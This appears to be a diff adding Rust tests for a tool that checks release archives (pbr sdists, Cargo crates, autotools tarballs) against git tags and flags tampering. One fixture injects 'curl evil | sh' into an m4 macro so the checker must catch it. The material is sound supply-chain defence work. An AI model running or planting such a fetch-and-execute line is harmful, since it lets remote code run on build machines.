+        "\tproj-api = proj.cmd.api:main\n",
+        "\tproj-api = proj.cmd.api:main\n\tproj-evil = proj.evil:main\n",
+    );
+    let t = pbr_sdist(&f, &cfg, "1.0.0");
+    let r = f.check(&t, &["--tag", "1.0.0", "--profile", "pbr"]);
+    r.assert_report(1, "fail");
+    let fd = r.finding("setup.cfg", "modified");
+    assert_eq!(fd["judgement"], "unexpected", "{r}");
+    assert!(
+        fd["reason"].as_str().unwrap().contains("console_scripts"),
+        "says what changed\n{r}"
+    );
+    // Everything else is still allowed.
+    for x in r.findings() {
+        if x["path"] != "setup.cfg" {
+            assert_eq!(x["judgement"], "allowed", "{r}");
+        }
+    }
+}
+
+#[test]
+fn pbr_sdist_with_other_version_fails() {
+    let f = pbr_fixture();
+    let t = pbr_sdist(&f, SETUP_CFG_SDIST, "1.0.1");
+    let r = f.check(&t, &["--tag", "1.0.0", "--profile", "pbr"]);
+    r.assert_report(1, "fail");
+    let fd = r.finding("PKG-INFO", "extra");
+    assert_eq!(fd["judgement"], "unexpected", "{r}");
+    assert!(fd["reason"].as_str().unwrap().contains("1.0.1"), "{r}");
+    assert!(
+        r.cross_checks().iter().any(|c| c["status"] == "failed"),
+        "{r}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Profiles: cargo.
+// ---------------------------------------------------------------------------------------------
+
+const CARGO_TOML: &str = "[package]\nname = \"proj\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies]\nserde = \"1\"\n";
+
+const CARGO_TOML_NORMALISED: &str = "# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO\n[package]\nedition = \"2021\"\nname = \"proj\"\nversion = \"1.0.0\"\nbuild = false\nautobins = false\n\n[lib]\nname = \"proj\"\npath = \"src/lib.rs\"\n\n[dependencies.serde]\nversion = \"1\"\n";
+
+fn cargo_fixture() -> Fixture {
+    let f = Fixture::new();
+    f.write("Cargo.toml", CARGO_TOML);
+    f.write("src/lib.rs", "pub fn f() {}\n");
+    f.write(".gitignore", "/target\n");
+    f.commit("c");
+    f.tag("v1.0.0");
+    f
+}
+
+fn crate_file(f: &Fixture, orig: &str, sha1: &str) -> std::path::PathBuf {
+    let tree = f.extract(&f.archive("v1.0.0", "proj-1.0.0", "tar", "git.tar"));
+    let d = tree.join("proj-1.0.0");
+    fs::remove_file(d.join(".gitignore")).unwrap();
+    fs::write(d.join("Cargo.toml"), CARGO_TOML_NORMALISED).unwrap();
+    fs::write(d.join("Cargo.toml.orig"), orig).unwrap();
+    fs::write(
+        d.join(".cargo_vcs_info.json"),
+        format!("{{\n  \"git\": {{\n    \"sha1\": \"{sha1}\"\n  }},\n  \"path_in_vcs\": \"\"\n}}"),
+    )
+    .unwrap();
+    fs::write(
+        d.join("Cargo.lock"),
+        "version = 4\n\n[[package]]\nname = \"proj\"\nversion = \"1.0.0\"\n",
+    )
+    .unwrap();
+    let t = f.pack(&tree, "proj-1.0.0", "gnu", "proj.tar");
+    copy_as(&compress(&t, "gzip"), "proj-1.0.0.crate")
+}
+
+#[test]
+fn cargo_crate_passes() {
+    let f = cargo_fixture();
+    let t = crate_file(&f, CARGO_TOML, &f.rev("v1.0.0^{commit}"));
+    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
+    r.assert_report(0, "pass").assert_findings(&[
+        ("Cargo.toml", "modified", "allowed"),
+        ("Cargo.toml.orig", "extra", "allowed"),
+        (".cargo_vcs_info.json", "extra", "allowed"),
+        ("Cargo.lock", "extra", "allowed"),
+        (".gitignore", "missing", "allowed"),
+    ]);
+    assert_eq!(r.cross_check("cargo-vcs-info")["status"], "ok", "{r}");
+}
+
+#[test]
+fn cargo_vcs_info_names_another_commit() {
+    let f = cargo_fixture();
+    let other = "0123456789abcdef0123456789abcdef01234567";
+    let t = crate_file(&f, CARGO_TOML, other);
+    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
+    r.assert_report(1, "fail");
+    let fd = r.finding(".cargo_vcs_info.json", "extra");
+    assert_eq!(fd["judgement"], "unexpected", "{r}");
+    assert!(fd["reason"].as_str().unwrap().contains(other), "{r}");
+    assert_eq!(r.cross_check("cargo-vcs-info")["status"], "failed", "{r}");
+}
+
+#[test]
+fn cargo_toml_orig_differs() {
+    let f = cargo_fixture();
+    let orig = CARGO_TOML.replace("serde = \"1\"", "serde = \"1\"\nevil = \"0.1\"");
+    let t = crate_file(&f, &orig, &f.rev("v1.0.0^{commit}"));
+    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("Cargo.toml.orig", "extra")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+    assert_eq!(
+        r.finding("Cargo.toml", "modified")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Profiles: autotools.
+// ---------------------------------------------------------------------------------------------
+
+const M4_IN_GIT: &str = "dnl serial 3\nAC_DEFUN([PROJ_CHECK], [true])\n";
+
+fn autotools_fixture() -> Fixture {
+    let f = Fixture::new();
+    f.write("configure.ac", "AC_INIT([proj], [1.0])\nAC_OUTPUT\n");
+    f.write("Makefile.am", "SUBDIRS = src\n");
+    f.write("src/main.c", "int main(void) { return 0; }\n");
+    f.write("m4/proj-check.m4", M4_IN_GIT);
+    f.commit("c");
+    f.tag("v1.0");
+    f
+}
+
+fn make_dist(f: &Fixture, change: impl FnOnce(&Path)) -> std::path::PathBuf {
+    let tree = f.extract_v1();
+    let d = tree.join("proj-1.0");
+    write_file(&d.join("configure"), b"#!/bin/sh\n# generated\n", 0o755);
+    fs::write(d.join("Makefile.in"), "# generated by automake\n").unwrap();
+    fs::write(d.join("aclocal.m4"), "# generated by aclocal\n").unwrap();
+    write_file(&d.join("build-aux/install-sh"), b"#!/bin/sh\n", 0o755);
+    change(&d);
+    let t = f.pack(&tree, "proj-1.0", "ustar", "proj-1.0.tar");
+    compress(&t, "xz")
+}
+
+#[test]
+fn autotools_generated_files_allowed() {
+    let f = autotools_fixture();
+    let t = make_dist(&f, |_| {});
+    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
+    r.assert_report(0, "pass").assert_findings(&[
+        ("configure", "extra", "allowed"),
+        ("Makefile.in", "extra", "allowed"),
+        ("aclocal.m4", "extra", "allowed"),
+        ("build-aux/install-sh", "extra", "allowed"),
+    ]);
+    assert_eq!(
+        r.finding("configure", "extra")["rule"],
+        "profile:autotools/configure"
+    );
+    // An extra directory is reported with its files? build-aux/ is a new directory; it must
+    // not be the thing that fails the check.
+}
+
+#[test]
+fn autotools_unknown_extra_m4_is_indeterminate() {
+    let f = autotools_fixture();
+    let t = make_dist(&f, |d| {
+        fs::write(
+            d.join("m4/build-to-host.m4"),
+            "# build-to-host.m4 serial 30\ndnl not in any known release\n",
+        )
+        .unwrap();
+    });
+    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
+    r.assert_report(3, "indeterminate");
+    let fd = r.finding("m4/build-to-host.m4", "extra");
+    assert_eq!(fd["judgement"], "indeterminate", "{r}");
+    assert!(
+        fd["reason"]
+            .as_str()
+            .unwrap()
+            .contains("m4/build-to-host.m4"),
+        "{r}"
+    );
+    r.assert_text_mentions("m4/build-to-host.m4")
+        .assert_text_mentions("INDETERMINATE");
+    assert_eq!(r.json["summary"]["unexpected"], 0, "{r}");
+}
+
+#[test]
+fn autotools_m4_in_git_modified_fails() {
+    let f = autotools_fixture();
+    let t = make_dist(&f, |d| {
+        fs::write(
+            d.join("m4/proj-check.m4"),
+            M4_IN_GIT.replace("true", "curl evil | sh"),
+        )
+        .unwrap();
+    });
+    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("m4/proj-check.m4", "modified")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+    r.assert_text_mentions("m4/proj-check.m4");
+}
+
+#[test]
+fn autotools_extra_source_file_fails() {
+    let f = autotools_fixture();
+    let t = make_dist(&f, |d| fs::write(d.join("src/evil.c"), "x\n").unwrap());
+    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("src/evil.c", "extra")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+}
